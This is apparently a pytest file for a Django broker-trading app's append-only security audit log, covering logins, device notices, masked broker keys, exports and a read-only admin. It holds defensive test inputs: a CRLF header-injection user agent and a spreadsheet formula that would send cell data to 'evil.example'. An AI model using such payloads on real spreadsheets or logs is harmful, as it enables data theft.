"""The audit trail (accounts.audit): each wired action writes exactly one SecurityEvent with the right
kind, user, client address and user agent, in the action's transaction (a rolled-back action leaves
none); rows are append-only; users read their own events only (page, CSV, API); staff read everyone's
in the admin, read-only."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.db import transaction
from django.test import RequestFactory
from django.urls import reverse
from rest_framework.test import APIClient

from accounts import audit, services
from accounts.models import BrokerAccount, BrokerMode, SecurityEvent, SecurityEventIsAppendOnly
from accounts.models import SecurityEventKind as Kind
from accounts.tests.audit_helpers import staff_with_second_factor
from accounts.tests.factories import BrokerAccountFactory, UserFactory

pytestmark = pytest.mark.django_db

HOME, OFFICE, ELSEWHERE, PROXY = "198.51.100.7", "198.51.100.200", "203.0.113.9", "10.0.0.2"
CHROME_WINDOWS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/131.0.0.0 Safari/537.36")
CHROME_WINDOWS_UPDATED = CHROME_WINDOWS.replace("131.0.0.0", "133.0.6943.54")
SAFARI_IPHONE = ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                 "Version/18.1 Mobile/15E148 Safari/604.1")


def events(**filters) -> list[SecurityEvent]:
    return list(SecurityEvent.objects.filter(**filters).order_by("pk"))


def site_login(client, login, password, address=HOME, agent=CHROME_WINDOWS, **headers):
    return client.post(reverse("account_login"), {"login": login, "password": password},
                       REMOTE_ADDR=address, HTTP_USER_AGENT=agent, **headers)


# --- the model: append-only ---------------------------------------------------------------------------
def test_an_event_is_never_changed_or_deleted(user):
    event = audit.record_event(Kind.MANUAL_ORDER, user=user, detail={"code": "005930"})
    event.detail = {"code": "000660"}
    with pytest.raises(SecurityEventIsAppendOnly):
        event.save()
    with pytest.raises(SecurityEventIsAppendOnly):
        event.delete()
    with pytest.raises(SecurityEventIsAppendOnly):
        SecurityEvent.objects.filter(pk=event.pk).update(kind=Kind.LOGIN_SUCCEEDED)
    with pytest.raises(SecurityEventIsAppendOnly):
        SecurityEvent.objects.filter(pk=event.pk).delete()
    with pytest.raises(SecurityEventIsAppendOnly):
        user.security_events.all().delete()
    stored = SecurityEvent.objects.get(pk=event.pk)
    assert (stored.kind, stored.detail) == (Kind.MANUAL_ORDER, {"code": "005930"})


def test_rows_outlive_their_user_and_broker_account(user):
    account = BrokerAccountFactory(owner=user, account_number="50001234")
    services.delete_broker_account(account)
    [added, removed] = events(user=user)
    assert (added.kind, removed.kind) == (Kind.BROKER_ACCOUNT_ADDED, Kind.BROKER_ACCOUNT_REMOVED)
    assert removed.broker_account is None and removed.broker_account_label == f"{account.name} (5000****-01)"
    username = user.username
    user.delete()
    kept = events(username=username)
    assert len(kept) == 2 and all(event.user_id is None for event in kept)


def test_an_unknown_kind_is_refused(user):
    with pytest.raises(ValueError):
        audit.record_event("password_guessed", user=user)


def test_detail_never_holds_a_secret(user):
    event = audit.record_event(Kind.BROKER_KEYS_CHANGED, user=user, detail={
        "app_key": "PSabcdefghijkl", "account_number": "50001234", "app_secret": "s3cr3t", "password": "hunter2",
        "nested": {"token": "eyJhbGciOi"}})
    text = json.dumps(event.detail)
    for secret in ("PSabcdefghijkl", "50001234", "s3cr3t", "hunter2", "eyJhbGciOi"):
        assert secret not in text
    assert event.detail["app_key"] == "PSab********" and event.detail["account_number"] == "5000****"


# --- where an action came from --------------------------------------------------------------------------
def test_address_and_agent_come_from_the_request_being_served(user, settings):
    request = RequestFactory().post("/", REMOTE_ADDR=HOME, HTTP_USER_AGENT=SAFARI_IPHONE,
                                    HTTP_X_FORWARDED_FOR="192.0.2.66")
    request.user = user
    token = audit.bind_request(request)
    try:
        event = audit.record_event(Kind.KILL_SWITCH_ON, user=user)
    finally:
        audit.unbind_request(token)
    assert (event.ip_address, event.user_agent, event.actor) == (HOME, SAFARI_IPHONE, None)  # forged XFF ignored
    # no request (a command, a task): no address, no agent
    later = audit.record_event(Kind.KILL_SWITCH_OFF, user=user)
    assert (later.ip_address, later.user_agent) == (None, "")


def test_the_middleware_holds_the_request_for_sync_and_async_views():
    import asyncio

    from django.http import HttpResponse

    from accounts.middleware import AuditContextMiddleware

    seen = []

    def view(request):
        seen.append(audit.current_request())
        return HttpResponse()

    async def async_view(request):
        seen.append(audit.current_request())
        return HttpResponse()

    request = RequestFactory().get("/")
    AuditContextMiddleware(view)(request)
    asyncio.run(AuditContextMiddleware(async_view)(request))
    assert seen == [request, request] and audit.current_request() is None  # and let go afterwards


def test_behind_one_trusted_proxy_the_address_is_the_one_it_forwarded(user, settings):
    settings.ALLAUTH_TRUSTED_PROXY_COUNT = 1
    request = RequestFactory().post("/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR=f"192.0.2.66, {HOME}")
    assert audit.record_event(Kind.STEP_UP, user=user, request=request).ip_address == HOME


def test_staff_acting_on_someone_elses_account_is_the_actor(user):
    staff = UserFactory(is_staff=True)
    request = RequestFactory().post("/admin/", REMOTE_ADDR=OFFICE)
    request.user = staff
    token = audit.bind_request(request)
    try:
        account = BrokerAccountFactory(owner=user)  # e.g. staff adding it in the admin
        own = audit.record_event(Kind.KILL_SWITCH_ON, user=staff)
    finally:
        audit.unbind_request(token)
    [added] = events(kind=Kind.BROKER_ACCOUNT_ADDED)
    assert (added.user, added.actor, added.actor_username, added.broker_account) == (user, staff, staff.username,
                                                                                      account)
    assert own.actor is None  # the user themselves: no actor


def test_user_agent_is_truncated_and_control_characters_dropped(user):
    request = RequestFactory().get("/", REMOTE_ADDR=HOME, HTTP_USER_AGENT="evil\r\nX-Injected: 1 " + "x" * 500)
    event = audit.record_event(Kind.STEP_UP, user=user, request=request)
    assert len(event.user_agent) == 300 and "\n" not in event.user_agent and "\r" not in event.user_agent


# --- logins ------------------------------------------------------------------------------------------------
def test_a_site_login_is_one_row_with_address_agent_and_method(client, user, password):
    response = site_login(client, user.username, password, HTTP_X_FORWARDED_FOR="192.0.2.1")
    assert response.status_code == 302
    [event] = events()
    assert (event.kind, event.user, event.username) == (Kind.LOGIN_SUCCEEDED, user, user.username)
    assert (event.ip_address, event.user_agent) == (HOME, CHROME_WINDOWS)  # the forged header is ignored
    assert event.detail == {"methods": ["password"], "device": "Chrome · Windows"}
    assert event.created_at.tzinfo is not None and event.device


@pytest.mark.usefixtures("fast_passwords")
def test_failed_logins_name_the_account_when_known_and_the_typed_login_otherwise(client, user):
    site_login(client, user.username, "wrong-password")
    site_login(client, user.email, "wrong-password", address=ELSEWHERE, agent=SAFARI_IPHONE)
    site_login(client, "nobody-here", "wrong-password")
    known_by_name, known_by_email, unknown = events()
    assert {e.kind for e in (known_by_name, known_by_email, unknown)} == {Kind.LOGIN_FAILED}
    assert (known_by_name.user, known_by_name.ip_address, known_by_name.user_agent) == (user, HOME, CHROME_WINDOWS)
    assert (known_by_email.user, known_by_email.ip_address) == (user, ELSEWHERE)
    assert (unknown.user, unknown.username, unknown.ip_address) == (None, "nobody-here", HOME)
    assert "wrong-password" not in json.dumps([e.detail for e in (known_by_name, known_by_email, unknown)])


@pytest.mark.parametrize("endpoint", ["/api/token/", "/token"])
def test_token_logins_are_recorded_once_each(user, password, endpoint):
    api = APIClient()
    ok = api.post(endpoint, {"username": user.username, "password": password}, REMOTE_ADDR=HOME,
                  HTTP_USER_AGENT="python-requests/2.32.3", HTTP_X_FORWARDED_FOR="192.0.2.1")
    wrong = api.post(endpoint, {"username": user.username, "password": "nope"}, REMOTE_ADDR=ELSEWHERE,
                     HTTP_USER_AGENT="curl/8.5.0")
    assert (ok.status_code, wrong.status_code) == (200, 401)
    succeeded, failed = events()
    assert (succeeded.kind, succeeded.user, succeeded.ip_address) == (Kind.LOGIN_SUCCEEDED, user, HOME)
    assert succeeded.detail == {"methods": ["password"], "via": "api", "device": "python-requests"}
    assert (failed.kind, failed.user, failed.ip_address, failed.user_agent) == (
        Kind.LOGIN_FAILED, user, ELSEWHERE, "curl/8.5.0")


def test_an_inactive_user_with_the_right_password_is_a_failed_login(user, password):
    get_user_model().objects.filter(pk=user.pk).update(is_active=False)
    response = APIClient().post("/api/token/", {"username": user.username, "password": password}, REMOTE_ADDR=HOME)
    assert response.status_code == 401
    assert [e.kind for e in events()] == [Kind.LOGIN_FAILED]


# --- new devices -------------------------------------------------------------------------------------------
def test_device_family_and_network():
    assert audit.browser_and_system(CHROME_WINDOWS) == ("Chrome", "Windows")
    assert audit.browser_and_system(SAFARI_IPHONE) == ("Safari", "iOS")
    assert audit.browser_and_system("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 "
                                    "(KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0") == (
        "Edge", "macOS")
    assert audit.browser_and_system("Mozilla/5.0 (Linux; Android 14; SM-S928N) AppleWebKit/537.36 (KHTML, like "
                                    "Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36") == (
        "Samsung Internet", "Android")
    assert audit.browser_and_system("curl/8.5.0") == ("curl", "")
    assert audit.browser_and_system("") == ("", "")
    assert audit.network_of("198.51.100.7") == "198.51.100.0/24"
    assert audit.network_of("2001:db8:1:2:3:4:5:6") == "2001:db8:1:2::/64"
    assert audit.device_key(CHROME_WINDOWS, HOME) == audit.device_key(CHROME_WINDOWS_UPDATED, OFFICE)
    assert audit.device_key(CHROME_WINDOWS, HOME) != audit.device_key(CHROME_WINDOWS, ELSEWHERE)
    assert audit.device_key(CHROME_WINDOWS, HOME) != audit.device_key(SAFARI_IPHONE, HOME)


def test_a_login_from_a_new_device_is_recorded_and_notified_once(client, user, password, settings,
                                                                 django_capture_on_commit_callbacks):
    settings.NOTIFY_EMAIL = True
    with django_capture_on_commit_callbacks(execute=True):
        site_login(client, user.username, password)  # the first login ever: nothing to compare with
        client.logout()
        site_login(client, user.username, password, address=OFFICE, agent=CHROME_WINDOWS_UPDATED)  # same device
        client.logout()
    assert [e.kind for e in events()] == [Kind.LOGIN_SUCCEEDED] * 2 and mail.outbox == []

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        site_login(client, user.username, password, address=ELSEWHERE, agent=SAFARI_IPHONE)
    assert len(callbacks) == 1
    *_, login, new_device = events()
    assert (login.kind, new_device.kind) == (Kind.LOGIN_SUCCEEDED, Kind.NEW_DEVICE)
    assert (new_device.user, new_device.ip_address, new_device.detail) == (user, ELSEWHERE, {"device": "Safari · iOS"})
    [message] = mail.outbox
    assert message.to == [user.email] and "새 기기" in message.subject + message.body
    assert ELSEWHERE in message.body and "Safari · iOS" in message.body

    client.logout()
    with django_capture_on_commit_callbacks(execute=True):
        site_login(client, user.username, password, address=ELSEWHERE, agent=SAFARI_IPHONE)  # known now
    assert len(mail.outbox) == 1 and len(events(kind=Kind.NEW_DEVICE)) == 1


def test_a_token_login_from_a_new_device_counts_too(user, password, django_capture_on_commit_callbacks):
    api = APIClient()
    api.post("/api/token/", {"username": user.username, "password": password}, REMOTE_ADDR=HOME,
             HTTP_USER_AGENT=CHROME_WINDOWS)
    api.post("/api/token/", {"username": user.username, "password": password}, REMOTE_ADDR=HOME,
             HTTP_USER_AGENT="python-requests/2.32.3")
    assert [e.kind for e in events()] == [Kind.LOGIN_SUCCEEDED, Kind.LOGIN_SUCCEEDED, Kind.NEW_DEVICE]


# --- broker accounts and real money --------------------------------------------------------------------------
def test_adding_changing_and_removing_a_broker_account(user):
    account = services.create_broker_account(user, name="실전", mode=BrokerMode.REAL, app_key="PSkeyAAAAbbbbcccc",
                                             app_secret="s" * 40, account_number="50001234")
    [added] = events()
    assert (added.kind, added.user, added.broker_account) == (Kind.BROKER_ACCOUNT_ADDED, user, account)
    assert added.broker_account_label == "실전 (5000****-01)"
    assert added.detail == {"mode": "real", "app_key": "PSke********", "app_secret": True,
                            "account_number": "5000****-01"}

    services.save_broker_account(account, name="실전 계좌", app_key="", app_secret="", account_number="")
    assert len(events()) == 1  # renamed, blank secrets kept: nothing to record

    services.save_broker_account(account, app_key="PSkeyNEWNEWNEWNEW", account_number="50009999", app_secret="")
    changed = events()[-1]
    assert (changed.kind, changed.detail["changed"]) == (Kind.BROKER_KEYS_CHANGED, ["app_key", "account_number"])
    assert changed.broker_account_label == "실전 계좌 (5000****-01)"

    services.save_broker_account(account, confirm_live_trading=True)
    services.save_broker_account(account, confirm_live_trading=True)  # already on: no second row
    services.save_broker_account(account, mode=BrokerMode.SIMULATED)  # leaving real switches it off
    assert [e.kind for e in events()[-2:]] == [Kind.REAL_MONEY_ON, Kind.REAL_MONEY_OFF]

    account_id = account.pk
    services.delete_broker_account(account)
    removed = events()[-1]
    assert (removed.kind, removed.broker_account_id, removed.detail["account"]) == (
        Kind.BROKER_ACCOUNT_REMOVED, None, account_id)
    assert removed.broker_account_label == "실전 계좌 (5000****-01)" and removed.detail["mode"] == "simulated"
    everything = json.dumps([[e.detail, e.broker_account_label] for e in events()], ensure_ascii=False)
    for secret in ("PSkeyAAAAbbbbcccc", "PSkeyNEWNEWNEWNEW", "s" * 40, "50001234", "50009999"):
        assert secret not in everything


def test_an_account_kept_because_of_its_history_records_no_removal(user, monkeypatch):
    account = BrokerAccountFactory(owner=user)

    def in_use(*args, **kwargs):
        from django.db.models import ProtectedError

        raise ProtectedError("orders refer to it", set())

    monkeypatch.setattr(BrokerAccount, "delete", in_use)
    with pytest.raises(services.BrokerAccountInUse):
        services.delete_broker_account(account)
    assert [e.kind for e in events()] == [Kind.BROKER_ACCOUNT_ADDED]


class Boom(Exception):
    pass


@pytest.mark.parametrize("action", ["add", "keys", "real_money_on", "remove", "login"])
def test_an_action_rolled_back_leaves_no_row_and_sends_nothing(user, password, settings, action,
                                                                django_capture_on_commit_callbacks):
    settings.NOTIFY_EMAIL = True
    account = BrokerAccountFactory(owner=user, mode=BrokerMode.REAL)
    before = SecurityEvent.objects.count()
    request = RequestFactory().post("/", REMOTE_ADDR=HOME)
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        with pytest.raises(Boom), transaction.atomic():
            if action == "add":
                services.create_broker_account(user, name="new", mode=BrokerMode.PAPER)
            elif action == "keys":
                services.save_broker_account(account, app_key="PSkeyCHANGEDCHANGED")
            elif action == "real_money_on":
                services.save_broker_account(account, confirm_live_trading=True)
            elif action == "remove":
                services.delete_broker_account(account)
            else:
                assert services.authenticate_login(request, login=user.username, password=password) == user
            assert SecurityEvent.objects.count() == before + 1  # written inside the transaction ...
            raise Boom
    assert SecurityEvent.objects.count() == before  # ... and gone with it
    assert callbacks == [] and mail.outbox == []


# --- the 보안 활동 page and its CSV -----------------------------------------------------------------------------
def test_the_page_shows_only_your_own_events_newest_first(client, user, other_user):
    audit.record_event(Kind.KILL_SWITCH_ON, user=user, detail={"scope": "account-1", "reason": "휴가"})
    audit.record_event(Kind.MANUAL_ORDER, user=other_user, detail={"code": "999999", "side": "buy", "quantity": 1})
    client.force_login(user)
    body = client.get(reverse("accounts:security_activity")).content.decode()
    assert "보안 활동" in body and "매매 중지 (킬 스위치)" in body and "이 계좌: 휴가" in body
    assert "999999" not in body
    kinds = [kind for kind in ("login_succeeded", "kill_switch_on") if f'data-kind="{kind}"' in body]
    assert kinds == ["login_succeeded", "kill_switch_on"]
    assert body.index('data-kind="login_succeeded"') < body.index('data-kind="kill_switch_on"')  # newest first


def test_the_page_needs_a_login_and_pages_through_many_events(client, user):
    assert client.get(reverse("accounts:security_activity")).status_code == 302
    assert client.get(reverse("accounts:security_activity_export")).status_code == 302
    for n in range(34):
        audit.record_event(Kind.STEP_UP, user=user, detail={"n": n})
    client.force_login(user)  # the 35th
    first = client.get(reverse("accounts:security_activity")).content.decode()
    second = client.get(reverse("accounts:security_activity") + "?page=2").content.decode()
    assert first.count("<tr data-kind=") == 30 and second.count("<tr data-kind=") == 5
    assert "1 / 2" in first and 'href="?page=2"' in first


def test_the_page_in_english(client, user):
    account = BrokerAccountFactory(owner=user, name="KIS main")
    services.save_broker_account(account, app_key="PSkeyCHANGEDCHANGED")
    audit.record_event(Kind.KILL_SWITCH_ON, user=user, broker_account=account, detail={"scope": "account-1"})
    audit.record_event(Kind.MANUAL_ORDER, user=user, broker_account=account, detail={
        "code": "005930", "side": "sell", "quantity": 1200, "price": 71000})
    audit.record_event(Kind.LOGIN_FAILED, user=user, detail={"reason": "second_factor", "type": "totp"})
    client.force_login(user)
    client.cookies["django_language"] = "en"
    body = client.get(reverse("accounts:security_activity")).content.decode()
    assert "Security activity" in body and "Logged in" in body
    for text in ("Broker keys changed", "app key", "Trading halted (kill switch)", "this account",
                 "005930 sell 1,200 shares at 71,000 KRW", "Wrong second-factor code (Authenticator app)"):
        assert text in body, text
    text = re.sub(r"<[^>]+>", " ", re.sub(r"<script.*?</script>", " ", body, flags=re.S)).replace("한국어", "")
    assert not re.findall(r"[\uac00-\ud7a3]+", text)
    client.cookies["django_language"] = "ko"
    body = client.get(reverse("accounts:security_activity")).content.decode()
    for text in ("보안 활동", "증권 계좌 키 변경", "앱 키", "005930 매도 1,200주 71,000원", "2단계 인증 코드 오류 (인증 앱)"):
        assert text in body, text


def test_the_csv_export_has_your_events_only_and_no_spreadsheet_formulas(client, user, other_user):
    client.post(reverse("account_login"), {"login": user.username, "password": "nope"}, REMOTE_ADDR=HOME,
                HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?"&A1,"click")')
    audit.record_event(Kind.MANUAL_ORDER, user=other_user, detail={"code": "999999"})
    client.force_login(user)
    response = client.get(reverse("accounts:security_activity_export"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, *data = rows
    assert header[:3] == ["시각", "이벤트 코드", "이벤트"]
    assert [row[1] for row in data] == ["login_succeeded", "login_failed"]
    failed = data[1]
    assert failed[5] == HOME and failed[6].startswith("'=HYPERLINK")  # shown as text, never run
    assert "999999" not in text


# --- the API -----------------------------------------------------------------------------------------------
def test_the_api_lists_your_own_events_paginated(user, other_user):
    account = BrokerAccountFactory(owner=user, account_number="50001234")
    audit.record_event(Kind.MANUAL_ORDER, user=other_user, detail={"code": "999999"})
    api = APIClient()
    assert api.get("/api/security-events/").status_code == 401
    api.force_authenticate(user)
    body = api.get("/api/security-events/").json()
    assert body["count"] == 1 and body["next"] is None
    [event] = body["results"]
    assert event["kind"] == "broker_account_added" and event["broker_account"] == account.pk
    assert event["broker_account_label"].endswith("(5000****-01)") and "50001234" not in json.dumps(body)
    assert set(event) == {"id", "kind", "kind_display", "created_at", "ip_address", "user_agent", "broker_account",
                          "broker_account_label", "actor", "summary", "detail"}
    for n in range(60):
        audit.record_event(Kind.STEP_UP, user=user, detail={"n": n})
    page = api.get("/api/security-events/").json()
    assert page["count"] == 61 and len(page["results"]) == 50 and page["results"][0]["detail"] == {"n": 59}
    assert len(api.get("/api/security-events/?page=2").json()["results"]) == 11


def test_the_api_is_in_the_schema(client):
    schema = client.get("/api/schema/?format=json").json()
    operation = schema["paths"]["/api/security-events/"]["get"]
    assert operation["operationId"] == "security_events_list"
    assert "200" in operation["responses"]


# --- the admin: staff read everything, change nothing ----------------------------------------------------------
@pytest.fixture
def staff_client(client):
    client.staff = staff_with_second_factor(client)
    return client


def result_list(body: str) -> str:
    return re.search(r'<table id="result_list">.*?</table>', body, re.S)[0]


def test_staff_read_every_event_in_the_admin_and_change_none(staff_client, user, other_user):
    mine = audit.record_event(Kind.KILL_SWITCH_ON, user=user)
    audit.record_event(Kind.MANUAL_ORDER, user=other_user, detail={"code": "005930", "side": "buy", "quantity": 3})
    changelist = reverse("admin:accounts_securityevent_changelist")
    body = staff_client.get(changelist).content.decode()
    assert user.username in result_list(body) and other_user.username in result_list(body)
    filtered = result_list(staff_client.get(changelist, {"kind__exact": "manual_order"}).content.decode())
    assert other_user.username in filtered and user.username not in filtered
    assert "005930" in filtered  # the summary column
    assert staff_client.get(changelist, {"user__id__exact": user.pk}).status_code == 200
    change = staff_client.get(reverse("admin:accounts_securityevent_change", args=[mine.pk]))
    assert change.status_code == 200 and 'name="_save"' not in change.content.decode()
    assert staff_client.get(reverse("admin:accounts_securityevent_add")).status_code == 403
    assert staff_client.get(reverse("admin:accounts_securityevent_delete", args=[mine.pk])).status_code == 403
    assert staff_client.post(reverse("admin:accounts_securityevent_change", args=[mine.pk]),
                             {"kind": "step_up"}).status_code == 403
    assert SecurityEvent.objects.get(pk=mine.pk).kind == Kind.KILL_SWITCH_ON
    assert "delete_selected" not in body


def test_staff_export_the_selected_events_as_csv(staff_client, user, other_user):
    picked = [audit.record_event(Kind.KILL_SWITCH_ON, user=user), audit.record_event(Kind.STEP_UP, user=other_user)]
    audit.record_event(Kind.MANUAL_ORDER, user=other_user)
    response = staff_client.post(reverse("admin:accounts_securityevent_changelist"), {
        "action": "export_csv", "_selected_action": [event.pk for event in picked]})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    assert sorted(row[1] for row in rows[1:]) == ["kill_switch_on", "step_up"]
